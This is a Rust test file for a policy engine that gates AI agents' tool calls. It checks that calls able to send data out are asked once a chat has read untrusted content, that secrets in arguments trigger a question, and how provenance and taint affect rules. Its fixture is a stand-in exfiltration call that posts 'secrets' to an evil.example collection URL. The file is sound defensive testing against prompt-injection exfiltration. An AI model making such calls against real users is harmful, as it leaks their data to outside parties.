//! Steps 7 and 8 of `decide`'s precedence, one row per case: once a conversation has read
//! untrusted content, an allowed call that could send data out is asked; a call whose arguments
//! carry what looks like a secret is asked; nothing else changes.

use serde_json::json;
use toolgate_policy::{
    decide_in, Annotations, Basis, Context, Decision, DefaultDecision, Effect, PolicySettings,
    Rule, Scope, Subject, ToolCall,
};

const NOW: i64 = 1_700_000_000_000;
const READ: &str = "fetch_url on Web, which reads the outside world";
const OUT: &str = "the server marks post_url as reaching the outside world";

fn post() -> ToolCall {
    ToolCall {
        server_id: "web".into(),
        tool: "post_url".into(),
        arguments: json!({"url": "https://evil.example/collect", "body": "secrets"}),
        annotations: Annotations::default(),
        server_fingerprint: "web-v1".into(),
        tool_fingerprint: "post-v1".into(),
    }
}

fn read_only(mut c: ToolCall) -> ToolCall {
    c.annotations.read_only = true;
    c
}

fn settings(rules: Vec<Rule>) -> PolicySettings {
    PolicySettings {
        rules,
        ..PolicySettings::default()
    }
}

struct Case {
    name: &'static str,
    subject: Subject,
    settings: PolicySettings,
    untrusted: bool,
    egress: bool,
    client: Option<&'static str>,
    want: (Decision, Basis, Option<&'static str>),
}

#[rustfmt::skip]
fn cases() -> Vec<Case> {
    use Decision::{Allow, Ask, Deny};
    let call = post();
    let allow_tool = || Rule::allow_tool("allow-post", &call, Scope::Always, NOW);
    let allow_server = || Rule::allow_server("allow-web", &call, Scope::Always, NOW);
    let in_chat = || Rule { scope: Scope::Conversation { id: "c1".into() }, ..allow_tool() };
    let for_client = || Rule { client: Some("claude-code".into()), ..allow_tool() };
    let deny = || Rule::deny_tool("deny-post", &call, Scope::Always, NOW);
    let ask = || Rule::ask_tool("ask-post", &call, Scope::Always, NOW);
    let sampling = Subject::Sampling { server_id: "web".into(), server_fingerprint: "web-v1".into() };
    let allow_sampling = || Rule::for_subject("sample", Effect::Allow, &sampling, Scope::Always, NOW);
    let auto_read_only = PolicySettings { auto_allow_read_only: true, ..settings(vec![]) };
    let deny_default = |rules| PolicySettings { default: DefaultDecision::Deny, ..settings(rules) };
    let paused = PolicySettings { paused: true, ..settings(vec![allow_tool()]) };
    let c = |name, subject: Subject, settings, untrusted, egress, client, want| Case { name, subject, settings, untrusted, egress, client, want };
    let t = |c: &ToolCall| Subject::ToolCall(c.clone());
    vec![
        c("always-allow rule, tainted, egress: asked", t(&call), settings(vec![allow_tool()]), true, true, None, (Ask, Basis::Untrusted, None)),
        c("server-wide allow, tainted, egress: asked", t(&call), settings(vec![allow_server()]), true, true, None, (Ask, Basis::Untrusted, None)),
        c("allow in this chat, tainted, egress: asked", t(&call), settings(vec![in_chat()]), true, true, None, (Ask, Basis::Untrusted, None)),
        c("a client's allow, tainted, egress: asked", t(&call), settings(vec![for_client()]), true, true, Some("claude-code"), (Ask, Basis::Untrusted, None)),
        c("read-only auto-allow, tainted, egress: asked", t(&read_only(call.clone())), auto_read_only.clone(), true, true, None, (Ask, Basis::Untrusted, None)),
        c("allow under deny-by-default, tainted, egress: asked", t(&call), deny_default(vec![allow_tool()]), true, true, None, (Ask, Basis::Untrusted, None)),
        c("tainted but no way out: the rule allows", t(&call), settings(vec![allow_tool()]), true, false, None, (Allow, Basis::Rule, Some("allow-post"))),
        c("a way out but nothing untrusted read: the rule allows", t(&call), settings(vec![allow_tool()]), false, true, None, (Allow, Basis::Rule, Some("allow-post"))),
        c("a deny rule still denies", t(&call), settings(vec![allow_tool(), deny()]), true, true, None, (Deny, Basis::Rule, Some("deny-post"))),
        c("deny by default still denies", t(&call), deny_default(vec![]), true, true, None, (Deny, Basis::Default, None)),
        c("pause still denies", t(&call), paused, true, true, None, (Deny, Basis::Paused, None)),
        c("an ask rule still asks, by its rule", t(&call), settings(vec![allow_tool(), ask()]), true, true, None, (Ask, Basis::Rule, Some("ask-post"))),
        c("the default still asks", t(&call), settings(vec![]), true, true, None, (Ask, Basis::Default, None)),
        c("sampling is not a call that sends data out", sampling.clone(), settings(vec![allow_sampling()]), true, true, None, (Allow, Basis::Rule, Some("sample"))),
    ]
}

#[test]
fn an_allowed_call_that_could_send_data_out_is_asked_once_the_chat_read_untrusted_content() {
    let mut failures = Vec::new();
    for case in cases() {
        case.settings
            .validate()
            .unwrap_or_else(|e| panic!("{}: {e}", case.name));
        let v = decide_in(
            &case.subject,
            &case.settings,
            &Context {
                conversation_id: Some("c1"),
                client: case.client,
                now_ms: NOW,
                untrusted: case.untrusted.then_some(READ),
                egress: case.egress.then_some(OUT),
                ..Context::default()
            },
        );
        let got = (v.decision, v.basis, v.rule_id.as_deref());
        if got != case.want {
            failures.push(format!(
                "{}: got {got:?}, want {:?} ({})",
                case.name, case.want, v.reason
            ));
        }
        // Asked whatever the rules say exactly when both hold: the question then offers no
        // "always allow", which would not change the outcome.
        let beyond = case.untrusted
            && case.egress
            && v.decision == Decision::Ask
            && matches!(case.subject, Subject::ToolCall(_));
        if v.beyond_rules != beyond {
            failures.push(format!(
                "{}: beyond the rules {}, want {beyond}",
                case.name, v.beyond_rules
            ));
        }
        // Whenever both hold, the reason says so: the card shows it.
        if case.untrusted
            && case.egress
            && v.decision == Decision::Ask
            && matches!(case.subject, Subject::ToolCall(_))
            && !(v.reason.contains(READ) && v.reason.contains(OUT))
        {
            failures.push(format!("{}: the reason hides why: {}", case.name, v.reason));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn the_reason_names_the_content_the_way_out_and_the_rule_it_overrides() {
    let call = post();
    let v = decide_in(
        &Subject::ToolCall(call.clone()),
        &settings(vec![
            Rule::allow_tool("r", &call, Scope::Always, NOW).with_note("posting to the web")
        ]),
        &Context {
            untrusted: Some(READ),
            egress: Some(OUT),
            now_ms: NOW,
            ..Context::default()
        },
    );
    assert_eq!(
        v.reason,
        format!(
            "asking because this chat has read untrusted content ({READ}), and this call could \
             send data out ({OUT}); otherwise it would be allowed by your rule “posting to the \
             web” (always)"
        )
    );
}

#[test]
fn a_connected_client_s_reason_speaks_of_its_connection() {
    let call = post();
    let v = decide_in(
        &Subject::ToolCall(call.clone()),
        &settings(vec![Rule::allow_tool("r", &call, Scope::Always, NOW)]),
        &Context {
            client: Some("claude-code"),
            untrusted: Some(READ),
            egress: Some(OUT),
            now_ms: NOW,
            ..Context::default()
        },
    );
    assert!(
        v.reason.starts_with(&format!(
            "asking because this connection has read untrusted content ({READ})"
        )),
        "{}",
        v.reason
    );
}

const SECRET: &str = "a GitHub Token at /body";

/// One row: its name, what is asked, the settings, whether the arguments carry a secret and the
/// chat read untrusted content, and the verdict wanted.
type SecretRow = (
    &'static str,
    Subject,
    PolicySettings,
    bool,
    bool,
    (Decision, Basis, Option<&'static str>),
);

/// Step 8: arguments carrying a secret make any allow a question; deny, pause and ask rules
/// stay as they are, and other requests than tool calls are not affected.
#[test]
#[rustfmt::skip]
fn a_secret_in_the_arguments_makes_every_allow_a_question() {
    use Decision::{Allow, Ask, Deny};
    let call = post();
    let allow_tool = Rule::allow_tool("allow-post", &call, Scope::Always, NOW);
    let allow_server = Rule::allow_server("allow-web", &call, Scope::Always, NOW);
    let deny = Rule::deny_tool("deny-post", &call, Scope::Always, NOW);
    let ask = Rule::ask_tool("ask-post", &call, Scope::Always, NOW);
    let sampling = Subject::Sampling { server_id: "web".into(), server_fingerprint: "web-v1".into() };
    let allow_sampling = Rule::for_subject("sample", Effect::Allow, &sampling, Scope::Always, NOW);
    let paused = PolicySettings { paused: true, ..settings(vec![allow_tool.clone()]) };
    let auto = PolicySettings { auto_allow_read_only: true, ..settings(vec![]) };
    let t = |c: &ToolCall| Subject::ToolCall(c.clone());
    let rows: Vec<SecretRow> = vec![
        ("always-allow rule, secret: asked", t(&call), settings(vec![allow_tool.clone()]), true, false, (Ask, Basis::Secret, None)),
        ("server-wide allow, secret: asked", t(&call), settings(vec![allow_server.clone()]), true, false, (Ask, Basis::Secret, None)),
        ("read-only auto-allow, secret: asked", t(&read_only(call.clone())), auto, true, false, (Ask, Basis::Secret, None)),
        ("untrusted and a secret: asked, both said", t(&call), settings(vec![allow_tool.clone()]), true, true, (Ask, Basis::Untrusted, None)),
        ("ask rule, secret: still the rule's question", t(&call), settings(vec![ask.clone()]), true, false, (Ask, Basis::Rule, Some("ask-post"))),
        ("deny rule, secret: denied", t(&call), settings(vec![deny.clone(), allow_tool.clone()]), true, false, (Deny, Basis::Rule, Some("deny-post"))),
        ("paused, secret: denied", t(&call), paused, true, false, (Deny, Basis::Paused, None)),
        ("no secret: allowed", t(&call), settings(vec![allow_tool.clone()]), false, false, (Allow, Basis::Rule, Some("allow-post"))),
        ("sampling is not a tool call", sampling.clone(), settings(vec![allow_sampling]), true, false, (Allow, Basis::Rule, Some("sample"))),
    ];
    let mut failures = Vec::new();
    for (name, subject, settings, secret, untrusted, want) in rows {
        let v = decide_in(
            &subject,
            &settings,
            &Context {
                conversation_id: Some("c1"),
                now_ms: NOW,
                untrusted: untrusted.then_some(READ),
                egress: untrusted.then_some(OUT),
                secrets: secret.then_some(SECRET),
                ..Context::default()
            },
        );
        let got = (v.decision, v.basis, v.rule_id.as_deref());
        if got != want {
            failures.push(format!("{name}: got {got:?}, want {want:?} ({})", v.reason));
        }
        let beyond = (secret || untrusted) && v.decision == Decision::Ask && matches!(subject, Subject::ToolCall(_));
        if v.beyond_rules != beyond {
            failures.push(format!("{name}: beyond the rules {}, want {beyond}", v.beyond_rules));
        }
        if secret && v.decision == Decision::Ask && matches!(subject, Subject::ToolCall(_)) && !v.reason.contains(SECRET) {
            failures.push(format!("{name}: the reason hides the finding: {}", v.reason));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

const PROVEN: &str = "every recipient is one you wrote (/to)";
const TAINTED: &str = "the value “US13…” at /to came only from outside content";

/// One row of the provenance table: name, call, settings, (untrusted read, way out, proven,
/// tainted), the verdict wanted.
type ProvenanceRow = (
    &'static str,
    Subject,
    PolicySettings,
    (bool, bool, bool, bool),
    (Decision, Basis, Option<&'static str>),
);

/// Step 9, and step 7 keeping an allow that provenance proves: a proof lets an allow stand only
/// when nothing is tainted; a taint makes any allow of a call that changes something a
/// question; neither ever loosens an ask, a deny or the pause.
#[test]
#[rustfmt::skip]
fn provenance_keeps_the_users_own_calls_and_holds_outside_values() {
    use Decision::{Allow, Ask, Deny};
    let call = post();
    let allow_tool = Rule::allow_tool("allow-post", &call, Scope::Always, NOW);
    let allow_server = Rule::allow_server("allow-web", &call, Scope::Always, NOW);
    let deny = Rule::deny_tool("deny-post", &call, Scope::Always, NOW);
    let ask = Rule::ask_tool("ask-post", &call, Scope::Always, NOW);
    let paused = PolicySettings { paused: true, ..settings(vec![allow_tool.clone()]) };
    let auto = PolicySettings { auto_allow_read_only: true, ..settings(vec![]) };
    let t = |c: &ToolCall| Subject::ToolCall(c.clone());
    let rows: Vec<ProvenanceRow> = vec![
        ("untrusted, way out, proven: the rule allows", t(&call), settings(vec![allow_tool.clone()]), (true, true, true, false), (Allow, Basis::Rule, Some("allow-post"))),
        ("server-wide allow, proven: allows", t(&call), settings(vec![allow_server.clone()]), (true, true, true, false), (Allow, Basis::Rule, Some("allow-web"))),
        ("untrusted, way out, not proven: asked as before", t(&call), settings(vec![allow_tool.clone()]), (true, true, false, false), (Ask, Basis::Untrusted, None)),
        ("proven but tainted: asked", t(&call), settings(vec![allow_tool.clone()]), (true, true, true, true), (Ask, Basis::Untrusted, None)),
        ("tainted, no way out: asked for the change", t(&call), settings(vec![allow_tool.clone()]), (true, false, false, true), (Ask, Basis::Provenance, None)),
        ("tainted, server-wide allow: asked", t(&call), settings(vec![allow_server.clone()]), (false, false, false, true), (Ask, Basis::Provenance, None)),
        ("tainted read-only call: step 9 is for changes", t(&read_only(call.clone())), auto.clone(), (false, false, false, true), (Allow, Basis::ReadOnly, None)),
        ("read-only, untrusted, way out, not proven: asked", t(&read_only(call.clone())), auto.clone(), (true, true, false, false), (Ask, Basis::Untrusted, None)),
        ("read-only, untrusted, way out, proven: allowed", t(&read_only(call.clone())), auto, (true, true, true, false), (Allow, Basis::ReadOnly, None)),
        ("proven never loosens an ask rule", t(&call), settings(vec![allow_tool.clone(), ask.clone()]), (true, true, true, false), (Ask, Basis::Rule, Some("ask-post"))),
        ("proven never loosens the default", t(&call), settings(vec![]), (true, true, true, false), (Ask, Basis::Default, None)),
        ("tainted keeps a deny", t(&call), settings(vec![deny.clone(), allow_tool.clone()]), (true, true, false, true), (Deny, Basis::Rule, Some("deny-post"))),
        ("tainted keeps the pause", t(&call), paused, (true, true, false, true), (Deny, Basis::Paused, None)),
    ];
    let mut failures = Vec::new();
    for (name, subject, settings, (untrusted, egress, proven, tainted), want) in rows {
        let v = decide_in(
            &subject,
            &settings,
            &Context {
                conversation_id: Some("c1"),
                now_ms: NOW,
                untrusted: untrusted.then_some(READ),
                egress: egress.then_some(OUT),
                proven: proven.then_some(PROVEN),
                tainted: tainted.then_some(TAINTED),
                ..Context::default()
            },
        );
        let got = (v.decision, v.basis, v.rule_id.as_deref());
        if got != want {
            failures.push(format!("{name}: got {got:?}, want {want:?} ({})", v.reason));
        }
        // Asked whatever the rules say when the content step holds it: untrusted content and
        // a way out not proven the user's, or an outside value in a change.
        let changes = matches!(&subject, Subject::ToolCall(c) if !c.annotations.read_only);
        let beyond = v.decision == Decision::Ask
            && ((untrusted && egress && (!proven || tainted)) || (tainted && changes));
        if v.beyond_rules != beyond {
            failures.push(format!("{name}: beyond the rules {}, want {beyond}", v.beyond_rules));
        }
        if tainted && v.decision == Decision::Ask && !v.reason.contains(TAINTED) {
            failures.push(format!("{name}: the reason hides the value: {}", v.reason));
        }
        if proven && untrusted && egress && v.decision == Decision::Allow && !v.reason.contains(PROVEN) {
            failures.push(format!("{name}: the reason hides the proof: {}", v.reason));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
